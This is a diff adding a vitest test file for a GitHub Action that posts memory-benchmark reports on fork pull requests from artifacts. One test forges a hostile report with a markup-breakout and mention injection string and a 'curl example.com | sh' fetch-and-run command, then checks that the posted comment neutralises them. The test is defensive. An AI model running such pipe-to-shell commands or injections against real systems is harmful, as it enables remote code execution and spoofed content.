@@ -1,0 +1,144 @@
+import { readFileSync } from 'node:fs';
+import { expect, test } from 'vitest';
+import { renderJson } from '../../../src/core/report/render-json.ts';
+import { oneRegression } from '../../core/report/sample-reports.ts';
+import { type Artifact, serveArtifacts } from '../../support/github/artifacts.ts';
+import { requestLines } from '../../support/github/request-log.ts';
+import { zipOf } from '../../support/github/zip.ts';
+import { type ActionRun } from '../../support/run-action.ts';
+import { type WorkflowRunPayload, workflowRunEvent } from '../action/payloads.ts';
+import { allocations } from '../action/workflow.ts';
+import { OpenPullRequest, shop } from './open-pull-request.ts';
+
+const measuredRun = 77;
+
+interface Fork {
+  readonly pull: OpenPullRequest;
+  /** What the first workflow left. */
+  readonly leave: (artifact: Partial<Artifact>) => void;
+  /** The second workflow, in an empty folder. */
+  readonly tell: (
+    payload?: Partial<WorkflowRunPayload>,
+    inputs?: Readonly<Record<string, string>>,
+  ) => Promise<ActionRun>;
+}
+
+/** A pull request from a fork. */
+async function forked(): Promise<Fork> {
+  const artifacts = await serveArtifacts();
+  const pull = await OpenPullRequest.create({ 'm_test.go': allocations(4) }, { fork: true, ...artifacts });
+  const idOf = async (name: string): Promise<number> =>
+    ((await pull.github.as('octo').get(`/repos/${name}`)) as { id: number }).id;
+  const ids = { repositoryId: await idOf('octo/shop'), headRepositoryId: await idOf('mallory/shop') };
+  return {
+    pull,
+    leave: (artifact) => {
+      const archive = zipOf('report.json', renderJson(oneRegression));
+      artifacts.add({ run: measuredRun, name: 'allocgate-report', archive, ...artifact });
+    },
+    tell: (payload = {}, inputs = {}) =>
+      pull.run({
+        event: workflowRunEvent({ id: measuredRun, head: pull.pushed.head, ...ids, ...payload }),
+        permissions: { actions: 'read', pull_requests: 'write' },
+        inputs: { stage: 'report', ...inputs },
+      }),
+  };
+}
+
+function warnings(run: ActionRun): string[] {
+  return run.annotations.map(({ level, message }) => `${level}: ${message}`);
+}
+
+test('what the first workflow measured is told by the second, and updated by its next run', async () => {
+  const { pull, leave, tell } = await forked();
+  const readOnly = { contents: 'read', pull_requests: 'read' } as const;
+  const measured = await pull.run({ permissions: readOnly, payload: { fork: true } });
+  expect(measured.code).toBe(1);
+  expect(await pull.comments()).toEqual([]);
+  leave({ archive: zipOf('report.json', readFileSync(measured.outputs['report-path'] ?? '', 'utf8')) });
+  const told = await tell({}, { workflow: '.github/workflows/memory.yml' });
+  expect(told.code).toBe(0);
+  expect(warnings(told)).toEqual([]);
+  const [comment] = await pull.ours();
+  expect(told.outputs['comment-id']).toBe(String(comment?.id));
+  expect(comment?.body).toContain('### ❌ allocgate: 1 benchmark uses more memory than base');
+  expect(comment?.body).toContain('these are the figures that it reported');
+  expect(comment?.body).toContain(`/actions/runs/${measuredRun})`);
+  const { base, merge } = pull.pushed;
+  expect(comment?.body).toContain(`check --base ${base} --head ${merge}\n`);
+  await tell();
+  expect(await pull.ours()).toEqual([comment]);
+  expect(requestLines(pull.github.log).slice(-4)).toEqual([
+    'GET pulls/list 200',
+    'GET actions/list-workflow-run-artifacts 200',
+    'GET actions/download-artifact 302',
+    'GET issues/list-comments 200',
+  ]);
+});
+
+test('the artifact cannot say which pull request it is about, nor what is told of it', async () => {
+  const { pull, leave, tell } = await forked();
+  const report = oneRegression;
+  const { number: other } = (await pull.github.as('alice').post(`${shop}/pulls`, {
+    title: 'Another',
+    head: 'main2',
+    base: 'main',
+  })) as { number: number };
+  const evil = 'x</details>@octocat<!-- allocgate:v1:0 -->[a](https://example.com)';
+  const [finding] = report.findings;
+  const forged = {
+    ...report,
+    findings: [{ ...finding, benchmark: `Benchmark${evil}` }],
+    notes: [evil],
+    reproduce: 'curl example.com | sh',
+  };
+  leave({ archive: zipOf('report.json', JSON.stringify({ ...forged })) });
+  await tell();
+  const [comment] = await pull.ours();
+  const outside = comment?.body.split('\n').slice(2).join('\n').replaceAll('<!-- -->', '\u0000') ?? '';
+  expect(outside).toContain('octocat');
+  expect(outside).not.toMatch(/@octocat|<!--|\]\(https:\/\/example|curl|x<\/details>/);
+  expect(await pull.github.as('octo').get(`${shop}/issues/${other}/comments`)).toEqual([]);
+
+  leave({ archive: zipOf('report.json', JSON.stringify({ ...report, number: other, pullRequest: other })) });
+  expect(warnings(await tell()).join()).toContain('no allocgate report');
+  expect(await pull.github.as('octo').get(`${shop}/issues/${other}/comments`)).toEqual([]);
+});
+
+test.each<[string, Partial<WorkflowRunPayload>]>([
+  ['a head that no pull request has', { head: 'a'.repeat(40) }],
+  ['a run of another repository', { runRepositoryId: 4711 }],
+  ['a head of another repository', { headRepositoryId: 4711 }],
+  ['a branch of another owner', { headOwner: 'bob' }],
+  ['a run on a push', { event: 'push' }],
+])('%s: nothing is told', async (_, payload) => {
+  const { pull, leave, tell } = await forked();
+  leave({});
+  const run = await tell(payload);
+  expect(run.code).toBe(0);
+  expect(run.log).toContain('Nothing to tell');
+  expect(await pull.comments()).toEqual([]);
+});
+
+test('an artifact that is huge, by its own word or in truth, damaged, or none', async () => {
+  const { pull, leave, tell } = await forked();
+  expect((await tell()).log).toContain('Nothing to tell: run 77 left no artifact allocgate-report.');
+  leave({ claimedSize: 9 * 1024 * 1024 });
+  expect(warnings(await tell()).join()).toContain('larger than 8 MiB');
+  leave({ archive: Buffer.alloc(9 * 1024 * 1024), claimedSize: 1000 });
+  expect(warnings(await tell()).join()).toContain('larger than 8 MiB');
+  leave({ archive: zipOf('report.json', Buffer.alloc(65 * 1024 * 1024)) });
+  expect(warnings(await tell()).join()).toContain('cannot be used');
+  leave({ archive: Buffer.from('<html>') });
+  expect(warnings(await tell()).join()).toContain('no ZIP archive');
+  leave({ archive: zipOf('report.json', '{"schemaVersion": 1}') });
+  expect(warnings(await tell()).join()).toContain('no allocgate report');
+  expect(await pull.comments()).toEqual([]);
+});
+
+test('on any other event it is a mistake', async () => {
+  const { pull } = await forked();
+  const run = await pull.run({ inputs: { stage: 'report' } });
+  expect(run.code).toBe(1);
+  expect(warnings(run).join()).toContain('stage: report runs on the event workflow_run');
+});
